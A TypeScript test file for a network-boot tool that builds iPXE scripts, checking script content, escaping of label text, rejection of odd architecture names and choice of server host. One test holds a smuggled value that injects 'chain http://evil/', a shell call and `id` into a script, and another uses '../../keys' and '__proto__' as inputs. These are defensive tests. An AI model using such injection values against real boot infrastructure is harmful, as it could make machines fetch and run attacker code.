import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { createFirmwareScripts } from '../../src/boot/firmware.ts'
import { encodeIpxe, ipxeScript } from '../../src/boot/script.ts'
import { reachableHost } from '../../src/boot/urls.ts'

describe('the iPXE script of a machine', () => {
  test('loads the agent with the server’s address and the interface that booted', () => {
    const script = ipxeScript('agent', {
      reason: 'starting the boot agent',
      arch: 'amd64',
      arguments: 'console=tty0 console=ttyS0,115200',
      server: 'https://192.0.2.1:8443',
    })
    expect(script.replace(/^# .*\n/gm, '')).toBe(`#!ipxe
echo Muster: starting the boot agent
kernel agent/amd64/kernel initrd=initramfs console=tty0 console=ttyS0,115200 muster.server=https://192.0.2.1:8443 BOOTIF=01-\${netX/mac:hexhyp} || goto failed
initrd --name initramfs agent/amd64/initramfs || goto failed
boot || goto failed
:failed
echo Muster: the boot agent could not be loaded; trying again in 10 seconds
imgfree ||
sleep 10
chain --replace autoexec.ipxe || goto failed
`)
  })

  test.each(['agent', 'unverified', 'autoexec'] as const)(
    'no failing download ends %s and sends the machine to its disk',
    (name) => {
      const given = ['reason', 'arch', 'arguments', 'server', 'kernel', 'initrdArgument', 'base']
      const values = Object.fromEntries(given.map((key) => [key, 'x']))
      const script = ipxeScript(name, values, { initrdLine: 'initrd a || goto failed' })
      const fetching = script.split('\n').filter((line) => /^(?:kernel|initrd|chain|boot)\b/.test(line))
      expect(fetching.length).toBeGreaterThan(2)
      expect(fetching.filter((line) => !/ \|\|(?: goto failed)?$/.test(line))).toEqual([])
    },
  )

  test('a reason from a label cannot add a line, a setting or a command', () => {
    const script = ipxeScript('skip', {
      reason: 'x\nchain http://evil/\r\n$' + '{net0/mac} && shell || `id` "q" # c',
    })
    expect(script.split('\n')).toHaveLength(6)
    expect(script).not.toMatch(/&&|\|\||\$\{|`|"/)
  })

  test('a value that the template wants and nobody gave is our own fault', () => {
    expect(() => ipxeScript('agent', {})).toThrowError(/wants a value/)
  })

  test('whatever text comes in, no line end, setting, operator or comment comes out', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 4000 }), (text) => {
        expect(encodeIpxe(text)).toMatch(/^[A-Za-z0-9 ._:,;/=@%+?()[\]*-]{0,2048}$/)
      }),
    )
  })
})

describe('what firmware says of itself', () => {
  const scripts = createFirmwareScripts({
    advertise: undefined,
    agentArguments: [],
    ports: () => ({ firmware: 8080, agent: 8443 }),
    facts: {
      findByMac: async () => undefined,
      explain: async () => ({ eligibility: { status: 'skip', reason: 'not asked' } }),
      recordUnverified: async () => {},
      hasAgent: async () => true,
    },
  })
  test.each(['constructor', '__proto__', 'toString', 'riscv64', '../../keys', ['x86_64', 'x86_64']])(
    'an architecture called %j finds no agent',
    async (buildarch) => {
      const query = { mac: '52:54:00:12:34:56', buildarch }
      const script = await scripts.machine(query, { address: '192.0.2.7', serverAddress: '192.0.2.1' })
      expect(script).toContain('echo Muster: there is no agent for')
      expect(script).not.toContain('kernel')
    },
  )
})

describe('the host that a machine is told', () => {
  test('is what the operator advertises', () => {
    expect(reachableHost({ advertise: 'boot.example.net', serverAddress: '192.0.2.1' })).toBe(
      'boot.example.net',
    )
  })
  test('else the address that the machine came to', () => {
    expect(reachableHost({ advertise: undefined, serverAddress: '192.0.2.1' })).toBe('192.0.2.1')
    expect(reachableHost({ advertise: undefined, serverAddress: '::ffff:192.0.2.1' })).toBe('192.0.2.1')
  })
  test('an IPv6 address stands in brackets, without its zone', () => {
    expect(reachableHost({ advertise: undefined, serverAddress: 'fe80::1%eth0' })).toBe('[fe80::1]')
  })
  test('a virtual machine behind QEMU’s user network knows this host as 10.0.2.2', () => {
    expect(reachableHost({ advertise: undefined, serverAddress: '127.0.0.1' })).toBe('10.0.2.2')
  })
})
